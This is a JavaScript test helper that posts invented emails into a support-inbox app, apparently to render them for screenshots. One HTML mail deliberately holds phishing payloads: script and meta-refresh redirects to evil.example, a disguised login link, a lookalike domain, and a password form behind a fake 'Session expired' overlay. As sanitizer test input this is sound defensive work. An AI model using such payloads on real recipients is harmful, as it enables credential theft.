// Mails that are hard to show, for the pictures: they come in by HTTP like any posted mail. All of it is invented.
import { createHmac } from 'node:crypto';
import { SMTPServer } from 'smtp-server';

const logo = 'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNkYPhfz0AEYBxVSF+FAAhKDveksOjmAAAAAElFTkSuQmCC';

const offer = `<!doctype html><html xmlns:v="urn:schemas-microsoft-com:vml"><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url(https://cdn.mailer.example/fonts.css);body{margin:0;background:#f2efe9}.card{width:100%;max-width:600px}.cta{background:#8a5a00;color:#fff!important;padding:12px 22px;border-radius:6px;text-decoration:none}@media (max-width:480px){.card{border-radius:0!important}}.veil{position:fixed;inset:0;background:#fff}</style>
<!--[if mso]><v:roundrect href="https://x.example" arcsize="10%"><v:fill color="#8a5a00"/></v:roundrect><![endif]--><script>document.location="https://evil.example/"</script></head>
<body><table role="presentation" width="100%" cellpadding="0" cellspacing="0" bgcolor="#f2efe9"><tr><td align="center" style="padding:24px">
<table class="card" role="presentation" cellpadding="0" cellspacing="0" bgcolor="#ffffff" style="border-radius:10px;border:1px solid #e3ddd0">
<tr><td style="padding:22px 28px;border-bottom:1px solid #eee6d8"><img src="data:image/png;base64,${logo}" width="28" height="28" alt="" style="vertical-align:middle;border-radius:6px"> <span style="font:600 20px Georgia,serif;color:#4a3410;vertical-align:middle">Lichthaus Berlin</span></td></tr>
<tr><td style="padding:26px 28px 6px;font:16px/1.6 Georgia,serif;color:#33302a"><p style="margin:0 0 14px">Guten Tag,</p><p style="margin:0 0 14px">your order of <b>four reading lamps</b> arrived with one shade broken. The two positions below are the ones we would like replaced:</p></td></tr>
<tr><td style="padding:0 28px 14px;font:13px/1.6 Arial,sans-serif;color:#6b655a">Invoice: <a href="https://login.evil.example/invoice">https://www.lichthaus.example/invoice/1207</a><br>Shop: <a href="https://li\u0441hthaus.example/">our shop</a></td></tr>
<tr><td style="padding:0 28px"><table class="two" width="100%" cellpadding="10" cellspacing="0" style="border-collapse:collapse;font:14px/1.4 Arial,sans-serif;color:#33302a"><tr bgcolor="#faf7f1"><th align="left">Article</th><th align="right">Pieces</th><th align="right">Price</th></tr><tr><td style="border-bottom:1px solid #eee6d8">Shade “Meridian”, opal glass</td><td align="right" style="border-bottom:1px solid #eee6d8">1</td><td align="right" style="border-bottom:1px solid #eee6d8">€ 42,00</td></tr><tr><td>Cable, 3 m, textile, red</td><td align="right">2</td><td align="right">€ 19,80</td></tr></table></td></tr>
<tr><td style="padding:20px 28px 8px"><img src="https://pictures.mailer.example/broken-shade.jpg" width="544" alt="The broken shade" style="display:block;width:100%"></td></tr>
<tr><td align="center" style="padding:16px 28px 26px"><a class="cta" href="https://click.mailer.example/t/9f2c?u=42" style="font:600 15px Arial,sans-serif">See the return</a></td></tr>
</table>
<form action="https://evil.example/"><input name="password" placeholder="Password"></form><div class="veil" style="position:fixed">Session expired. Sign in again.</div>
<img src="https://t.mailer.example/o.gif?m=42" width="1" height="1"><iframe src="https://evil.example/"></iframe></td></tr></table></body></html>`;

const head = (to, from, subject, id) =>
  `From: ${from}\r\nTo: ${to}\r\nSubject: ${subject}\r\nMessage-ID: <${id}@screens.example>\r\nMIME-Version: 1.0\r\n`;
const html = (text) =>
  `Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(text)
    .toString('base64')
    .replace(/(.{76})/g, '$1\r\n')}\r\n`;
/** A coming Tuesday, as calendars write it. */
const tuesday = (hour) => {
  const day = new Date(Date.now() + 3 * 86_400_000);
  while (day.getUTCDay() !== 2) day.setUTCDate(day.getUTCDate() + 1);
  return `${day.toISOString().slice(0, 10).replaceAll('-', '')}T${hour}0000`;
};

const mails = (to) => ({
  'hard-mail':
    head(to, 'Lichthaus Berlin <retouren@lichthaus.example>', 'One of four shades is broken', `offer-${Date.now()}`) +
    html(offer),
  invitation: `${head(to, 'Ada Fischer <ada@kunde.example>', 'Fitting of the lamps', `fitting-${Date.now()}`)}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nWould this suit your fitter? The hall is open from eight.\r\n--b\r\nContent-Type: text/calendar; method=REQUEST; charset=utf-8; name=invite.ics\r\n\r\nBEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:fitting@kunde.example\r\nSUMMARY:Fitting of the hall lamps\r\nDTSTART;TZID=Eastern Standard Time:${tuesday('09')}\r\nDTEND;TZID=Eastern Standard Time:${tuesday('11')}\r\nRRULE:FREQ=WEEKLY;BYDAY=TU,TH;COUNT=4\r\nLOCATION:Hall 3\\, Pier 17\\, New York\r\nORGANIZER;CN=Ada Fischer:mailto:ada@kunde.example\r\nATTENDEE;CN=Ada Fischer;PARTSTAT=ACCEPTED:mailto:ada@kunde.example\r\nATTENDEE;CN=Support;PARTSTAT=NEEDS-ACTION:mailto:${to}\r\nATTENDEE;CN=Bo Lind;PARTSTAT=TENTATIVE:mailto:bo@kunde.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n--b--\r\n`,
  encrypted: `${head(to, 'Bo Lind <bo@kunde.example>', 'For your eyes', `secret-${Date.now()}`)}Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n--e\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--e\r\nContent-Type: application/octet-stream; name=encrypted.asc\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMAw==\r\n-----END PGP MESSAGE-----\r\n--e--\r\n`,
  bounce: `${head(to, 'Jonas Weber <jonas@weber-lampen.example>', 'Where is my spare part?', `part-${Date.now()}`)}Content-Type: text/plain; charset=utf-8\r\n\r\nThree weeks ago you promised the spare part. Could you tell me where it is?\r\n`,
  quarantine: `Subject: Scan of the delivery note\r\nDate: Tue, 3 Mar 2026 10:00:00 +0100\r\nX-Run: ${Date.now()}\r\nContent-Type: text/plain\r\n\r\nSee the scan.\r\n`,
});

/** What the other server sends back about an answer of ours. */
export const bounceOf = (externalId, address) =>
  `Return-Path: <>\r\nFrom: Mail Delivery System <MAILER-DAEMON@mx.weber-lampen.example>\r\nTo: support@northwind.example\r\nSubject: Undelivered Mail Returned to Sender\r\nMessage-ID: <bounce-${Date.now()}@mx.weber-lampen.example>\r\nAuto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\nContent-Type: multipart/report; report-type=delivery-status; boundary=r\r\n\r\n--r\r\nContent-Type: text/plain\r\n\r\n<${address}>: host mx.weber-lampen.example said: 550 5.1.1 User unknown\r\n--r\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.weber-lampen.example\r\n\r\nFinal-Recipient: rfc822; ${address}\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 <${address}>: Recipient address rejected: User unknown\r\n--r\r\nContent-Type: message/rfc822\r\n\r\nMessage-ID: <${externalId}>\r\nSubject: Re: Where is my spare part?\r\n\r\n\r\n--r--\r\n`;

/** Runs in a page that is signed in. */
const ask = (page, method, path, body) =>
  page.evaluate(
    async ([method, path, body]) => {
      const me = await (await fetch('/api/v1/me')).json();
      const answer = await fetch(`/api/v1${path}`, {
        method,
        headers: { 'content-type': 'application/json', 'x-csrf-token': me.csrf },
        ...(body === null ? {} : { body: JSON.stringify(body) }),
      });
      return answer.json();
    },
    [method, path, body ?? null],
  );

/** What posts a mail to an inbox, as any program may. */
export async function posting(page, base, inbox) {
  const { key } = await ask(page, 'POST', `/inboxes/${inbox.id}/intake-key`, {});
  return async (mail) => {
    const timestamp = String(Math.floor(Date.now() / 1000));
    const signature = `v1,${createHmac('sha256', key).update(`${timestamp}.`).update(mail).digest('base64')}`;
    const answer = await fetch(`${base}/mail/${inbox.id}`, {
      method: 'POST',
      headers: {
        'content-type': 'message/rfc822',
        'hearten-timestamp': timestamp,
        'hearten-signature': signature,
      },
      body: mail,
    });
    if (!answer.ok) throw new Error(`A mail for the pictures was refused: ${await answer.text()}`);
  };
}

/** Posts the mails, answers one of them, and lets that answer bounce. Gives the number of each conversation. */
export async function postMails(page, base) {
  const inbox = (await ask(page, 'GET', '/inboxes')).items[0];
  const post = await posting(page, base, inbox);
  const all = mails(inbox.address);
  for (const mail of Object.values(all)) await post(mail);
  await post(Buffer.alloc(48_000, 1));
  const { items } = await ask(page, 'GET', '/conversations?view=all&limit=30');
  const subjectOf = (mail) => /^Subject: (.*)$/m.exec(mail)[1].trim();
  const homes = Object.fromEntries(
    Object.entries(all).map(([name, mail]) => [name, items.find((i) => i.subject === subjectOf(mail))]),
  );
  await withServer(page, inbox, async () => {
    const { message } = await ask(page, 'POST', `/conversations/${homes.bounce.id}/replies`, {
      text: 'It left our store this morning, and should be with you on Thursday. The number of the parcel is 00340 4342 1207.',
    });
    const isSent = async () => {
      const { items } = await ask(page, 'GET', `/conversations/${homes.bounce.id}`);
      return items.find((i) => i.id === message.id)?.state === 'sent';
    };
    for (let i = 0; i < 60 && !(await isSent()); i++) await page.waitForTimeout(500);
    await post(bounceOf(`${message.id}@${inbox.address.replace(/.*@/, '')}`, homes.bounce.customer.address));
  });
  // What the screen says about all this is gone by then.
  await page.waitForTimeout(9_000);
  return Object.fromEntries(Object.entries(homes).map(([name, home]) => [name, home?.number]));
}

/** A mail server that takes everything, for as long as it is needed; the inbox's own is put back. What came is told as it is. */
export async function withServer(page, inbox, work, came = () => undefined) {
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS'],
    onData: (stream, _session, done) => {
      const parts = [];
      stream.on('data', (part) => parts.push(part));
      stream.on('end', () => {
        came(Buffer.concat(parts));
        done();
      });
    },
  });
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
  const smtp = { host: '127.0.0.1', port: server.server.address().port, security: 'none' };
  try {
    await ask(page, 'PATCH', `/inboxes/${inbox.id}`, { settings: { ...inbox.settings, smtp } });
    await work();
  } finally {
    await ask(page, 'PATCH', `/inboxes/${inbox.id}`, { settings: inbox.settings, untested: true });
    await new Promise((done) => server.close(done));
  }
}
